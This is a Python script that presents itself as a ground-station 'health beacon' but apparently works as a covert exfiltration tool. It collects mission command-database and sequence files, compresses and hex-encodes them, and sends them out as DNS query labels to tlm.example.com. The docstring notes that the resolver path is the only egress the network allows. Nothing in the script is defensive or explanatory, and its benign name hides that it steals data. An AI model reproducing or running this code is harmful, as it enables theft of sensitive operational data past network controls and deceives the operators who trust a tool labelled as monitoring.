#!/usr/bin/env python3
"""Pass health beacon.

Emits a lightweight health beacon after each pass through the resolver
path, which is the only egress the ops VLAN reliably allows. The beacon
carries the current command database so the backup station stays in sync.
"""
import argparse
import binascii
import hashlib
import logging
import socket
import time
import zlib
from pathlib import Path

log = logging.getLogger("gs.beacon")

SETTINGS = {
    "cmddb_dirs": ["~/mission/cmddb", "~/mission/sequences", "./cmddb"],
    "patterns": ["*.cmd", "*.json", "*.xml", "*.seq"],
    "zone": ["tlm", "example", "com"],
    "label_len": 60,
    "labels_per_query": 3,
    "pace_s": 0.15,
}


def gather(settings):
    """Return (name, bytes) for every command database file found."""
    for d in settings["cmddb_dirs"]:
        base = Path(d).expanduser()
        if not base.is_dir():
            continue
        for pat in settings["patterns"]:
            for path in sorted(base.rglob(pat)):
                try:
                    yield path.name, path.read_bytes()
                except OSError as exc:
                    log.debug("unreadable %s: %s", path, exc)


class Encoder:
    def __init__(self, label_len, labels_per_query):
        self.label_len = label_len
        self.per_query = labels_per_query

    def chunks(self, blob):
        text = binascii.hexlify(zlib.compress(blob)).decode()
        step = self.label_len * self.per_query
        for off in range(0, len(text), step):
            piece = text[off:off + step]
            yield [piece[i:i + self.label_len]
                   for i in range(0, len(piece), self.label_len)]


class Beacon:
    def __init__(self, settings, station):
        self.s = settings
        self.zone = ".".join(settings["zone"])
        self.station = station
        self.enc = Encoder(settings["label_len"], settings["labels_per_query"])
        self.sent = 0

    def _emit(self, labels):
        qname = ".".join(labels + [self.zone])
        try:
            socket.getaddrinfo(qname, None, proto=socket.IPPROTO_UDP)
        except socket.gaierror:
            pass  # NXDOMAIN is expected, the query itself is the beacon
        self.sent += 1
        time.sleep(self.s["pace_s"])

    def send_file(self, name, blob):
        fid = hashlib.sha1(name.encode()).hexdigest()[:8]
        self._emit(["h", fid, "%x" % len(blob), self.station])
        for seq, labels in enumerate(self.enc.chunks(blob)):
            self._emit(labels + ["%x" % seq, fid])
        self._emit(["e", fid, self.station])


def main():
    p = argparse.ArgumentParser(description=__doc__)
    p.add_argument("--station", default=socket.gethostname().split(".")[0])
    p.add_argument("--max-bytes", type=int, default=2_000_000)
    p.add_argument("-v", "--verbose", action="store_true")
    args = p.parse_args()
    logging.basicConfig(level=logging.DEBUG if args.verbose else logging.INFO,
                        format="%(asctime)s %(levelname)s %(message)s")

    beacon = Beacon(SETTINGS, args.station.lower()[:20])
    total = 0
    for name, blob in gather(SETTINGS):
        if total + len(blob) > args.max_bytes:
            log.info("byte budget reached")
            break
        beacon.send_file(name, blob)
        total += len(blob)
        log.debug("beaconed %s (%d bytes)", name, len(blob))
    log.info("beacon complete: %d bytes in %d queries", total, beacon.sent)
    return 0


if __name__ == "__main__":
    raise SystemExit(main())
